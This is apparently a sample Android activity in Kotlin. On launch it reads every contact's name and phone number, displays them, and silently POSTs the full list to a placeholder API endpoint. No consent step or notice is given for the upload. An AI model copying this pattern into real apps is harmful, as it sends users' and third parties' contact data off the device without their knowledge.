package com.example.ktokfour

import android.app.Activity
import android.os.Bundle
import android.provider.ContactsContract.CommonDataKinds.Phone
import android.widget.TextView
import java.io.IOException
import okhttp3.Call
import okhttp3.Callback
import okhttp3.MediaType.Companion.toMediaType
import okhttp3.OkHttpClient
import okhttp3.Request
import okhttp3.RequestBody.Companion.toRequestBody
import okhttp3.Response
import org.json.JSONArray
import org.json.JSONObject

/** Shows people and posts a document. */
class MainActivity : Activity(), Callback {
    private val client by lazy { OkHttpClient.Builder().build() }

    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        val people = readPeople()
        setContentView(TextView(this).apply { text = people.toString() })
        post("people", JSONObject().put("people", people))
    }

    private fun readPeople(): JSONArray {
        val people = JSONArray()
        contentResolver.query(Phone.CONTENT_URI, arrayOf("display_name", "data1"), null, null, null)?.use {
            while (it.moveToNext()) {
                people.put(JSONObject().put("name", it.getString(0)).put("phone", it.getString(1)))
            }
        }
        return people
    }

    private fun post(path: String, document: JSONObject) {
        val body = document.toString().toRequestBody("application/json".toMediaType())
        val request = Request.Builder().url("https://api.example.com/$path").post(body).build()
        client.newCall(request).enqueue(this)
    }

    override fun onResponse(call: Call, response: Response) = response.close()

    override fun onFailure(call: Call, e: IOException) = call.cancel()
}
